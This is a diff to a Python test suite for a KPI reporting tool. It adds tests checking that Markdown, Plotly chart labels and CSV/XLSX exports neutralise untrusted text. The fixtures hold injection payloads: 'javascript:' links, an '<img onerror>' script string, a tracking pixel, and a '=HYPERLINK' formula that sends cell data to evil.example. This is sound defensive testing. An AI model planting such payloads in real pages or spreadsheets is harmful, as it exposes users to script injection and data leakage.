@@ -25,6 +25,7 @@ import functools
 import io
 import json
 import os
+import re
 import traceback
 from dataclasses import dataclass
 from pathlib import Path
@@ -463,7 +464,8 @@ TRUST_CASES: list[Case] = [
 ]
 CASES += TRUST_CASES
 
-EXTRA_ROWS = ["index_html_escaping", "run_hostile_names_escaped", "run_client_id_traversal",
+EXTRA_ROWS = ["index_html_escaping", "markdown_links_images_inert", "plotly_labels_inert",
+              "export_formulas_inert_csv", "export_formulas_inert_xlsx", "run_hostile_names_escaped", "run_client_id_traversal",
               "run_reserved_client_id", "run_exit_status"]
 
 
@@ -593,6 +595,129 @@ def test_index_escapes_names_statements_findings_and_reasons(tmp_path: Path, rec
     row.done("index.html written; every hostile string escaped")
 
 
+# ---------------------------------------------------------------- untrusted text is text (issue 16.3, fast)
+
+MARKDOWN_PAYLOADS = ("![p](http://tracker.example/px.png)", "[click](javascript:alert(1))", "<http://evil.example>",
+                     "see http://evil.example/x and www.evil.example, mail a@evil.example",
+                     "[ref]\n\n[ref]: http://evil.example/ref", "<img src=x onerror=alert(1)>")
+LINK_LABEL = '<a href="http://evil.example/x">click me</a>'
+HUGE_LABEL = '<span style="font-size:900px">HUGE</span>'
+
+
+def _markdown_report_body(text: str) -> str:
+    """`show_markdown(text)` as it lands in report.html (nbconvert's Markdown renderer)."""
+    import nbformat
+
+    from kpi_helpers.display import escape_markdown_html
+    from kpi_helpers.report import _body_of
+
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("show_markdown(...)")
+    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/markdown": escape_markdown_html(text)})]
+    nb.cells.append(cell)
+    return _body_of(nb)
+
+
+def test_markdown_from_params_makes_no_links_or_images(record) -> None:
+    row = record("markdown_links_images_inert", "client name / owner / goal statement with `![p](http://…/px.png)`, "
+                 "`[x](javascript:…)`, autolinks, a reference link and `<img>`", "report.html shows the text; no "
+                 "`<a>`, no `<img>` (no tracking pixel, no script on click)")
+    try:
+        for payload in MARKDOWN_PAYLOADS:
+            body = _markdown_report_body(f"# Acme {payload}\n\n1. **Act:** {payload}")
+            links = [a for a in re.findall(r"<a [^>]*>", body) if not re.fullmatch(r'<a class="anchor-link" href="#[^"]*">', a)]
+            assert not links and "<img" not in body, f"{payload!r} became live: {links}"
+            assert "javascript:alert" not in body or "[click](javascript:alert(1))" in body
+        body = _markdown_report_body("**Act:** raise the budget")
+        assert "<strong>Act:</strong>" in body, "our own Markdown still renders"
+    except AssertionError as error:
+        row.failed("report body rendered", str(error).splitlines()[0])
+        raise
+    row.done(f"{len(MARKDOWN_PAYLOADS)} payloads render as text; our own bold text still renders")
+
+
+def test_plotly_labels_from_data_are_text(record) -> None:
+    import plotly.graph_objects as go
+
+    from kpi_helpers.charts import channel_breakdown
+    from kpi_helpers.display import PLOTLY_MIME, figure_bundle
+    from kpi_helpers.engine import compute_kpis
+
+    row = record("plotly_labels_inert", f"campaign labels `{LINK_LABEL}` and `{HUGE_LABEL}` in a breakdown chart, "
+                 "a trace name, a title and tick labels", "the chart (HTML and plotly JSON) shows them as text: "
+                 "no `<a href>`, no `<span style>`; our own `<b>`/`<br>` markup kept")
+    facts = load_facts(_hostile_config(campaigns=(LINK_LABEL, HUGE_LABEL, "plain")))
+    table = compute_kpis(facts, ["revenue"], grain=None, by="campaign")
+    chart = channel_breakdown(table, "revenue", by="campaign")
+    own = go.Figure(go.Bar(x=[LINK_LABEL, "b"], y=[1, 2], name=HUGE_LABEL, text=[LINK_LABEL, "t"],
+                           hovertemplate="%{x}<br>%{y}<extra></extra>"),
+                    layout={"title": {"text": f"<b>Acme</b><br>{LINK_LABEL}"},
+                            "xaxis": {"tickvals": [0], "ticktext": [HUGE_LABEL]}})
+    try:
+        for fig in (chart, own):
+            bundle = figure_bundle(fig)
+            for text in (bundle["text/html"], json.dumps(bundle[PLOTLY_MIME])):
+                for live in ('<a href="http://evil', "<a href=\\\"http://evil", "<span style=\\\"font-size:900px",
+                             '<span style="font-size:900px'):
+                    assert live not in text, f"live markup {live!r} in the figure"
+            assert "&lt;a href=" in json.dumps(bundle[PLOTLY_MIME]), "the label is shown (escaped), not dropped"
+        spec = json.dumps(figure_bundle(own)[PLOTLY_MIME])
+        assert "<b>Acme</b><br>" in spec and "<br>%{y}<extra></extra>" in spec, "our own markup is kept"
+    except AssertionError as error:
+        row.failed("figures built", str(error).splitlines()[0])
+        raise
+    row.done("no live `<a>`/`<span style>` in HTML or JSON; labels shown escaped; own markup kept")
+
+
+def _hostile_config(campaigns: tuple[str, ...]) -> Any:
+    from types import SimpleNamespace
+    import tempfile
+
+    folder = Path(tempfile.mkdtemp(prefix="kpi-hostile-"))
+    (folder / "data.csv").write_text(daily_rows(days=20, campaigns=campaigns), encoding="utf-8")
+    return SimpleNamespace(data=[{"source": "data.csv", "shape": "daily"}], period=None, base_dir=folder,
+                           source_file=None)
+
+
+FORMULA_CAMPAIGNS = ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+2", "-3+4", "@SUM(A1)",
+                     "\tTAB", "plain")  # a CR in a CSV field ends the line for the reader: unit-tested below
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_kpis_export_writes_no_live_formulas(tmp_path: Path, suffix: str, record) -> None:
+    row = record(f"export_formulas_inert{suffix.replace('.', '_')}", f"`kpis --by campaign --out x{suffix}` with "
+                 "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…`, tab and CR", "every such cell starts with `'` "
+                 "(text, not a formula); numbers untouched")
+    files = {PARAMS: _params(kpis=("revenue", "orders")),
+             "data.csv": daily_rows(days=20, campaigns=FORMULA_CAMPAIGNS)}
+    _write(tmp_path, files, tmp_path / "PWNED")
+    out = tmp_path / f"x{suffix}"
+    code, output = _cli(["kpis", str(tmp_path / "params" / PARAMS), "--by", "campaign", "--out", str(out)])
+    try:
+        assert code == 0, output
+        if suffix == ".csv":
+            table = pd.read_csv(out, dtype=str, keep_default_na=False)
+            cells = table["campaign"].tolist()
+            values = pd.to_numeric(table["value"])
+        else:
+            from openpyxl import load_workbook
+
+            sheet = load_workbook(out).active
+            header = [c.value for c in sheet[1]]
+            column = header.index("campaign")
+            assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"], "formula cells"
+            cells = [r[column].value for r in sheet.iter_rows(min_row=2)]
+            values = pd.Series([r[header.index("value")].value for r in sheet.iter_rows(min_row=2)], dtype=float)
+        risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
+        assert not risky, f"cells a spreadsheet would run: {sorted(set(risky))[:3]}"
+        assert "'" + FORMULA_CAMPAIGNS[0] in cells and "plain" in cells
+        assert (values > 0).all(), "numbers stay numbers"
+    except AssertionError as error:
+        row.failed(f"exit {code}", str(error).splitlines()[0])
+        raise
+    row.done(f"exit 0; {len(FORMULA_CAMPAIGNS) - 1} risky labels written with a leading ', numbers untouched")
+
+
 # ---------------------------------------------------------------- `kpi-workbook run` with hostile clients (slow)
 
 
@@ -698,3 +823,12 @@ def test_run_batch_with_hostile_clients(tmp_path: Path, monkeypatch: pytest.Monk
             rows[key].failed(f"statuses {sorted((c, r.status) for c, r in status.items())}", str(error).splitlines()[0])
             failures.append(f"{key}: {error}")
     assert not failures, "\n\n".join(failures)
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_every_formula_prefix_is_neutralised(cell: str) -> None:
+    from kpi_helpers.display import inert_cell, inert_cells
+
+    assert inert_cell(cell) == "'" + cell
+    table = inert_cells(pd.DataFrame({"campaign": [cell, "ok"], "value": [-1.5, 2.0]}))
+    assert table["campaign"].tolist() == ["'" + cell, "ok"] and table["value"].tolist() == [-1.5, 2.0]
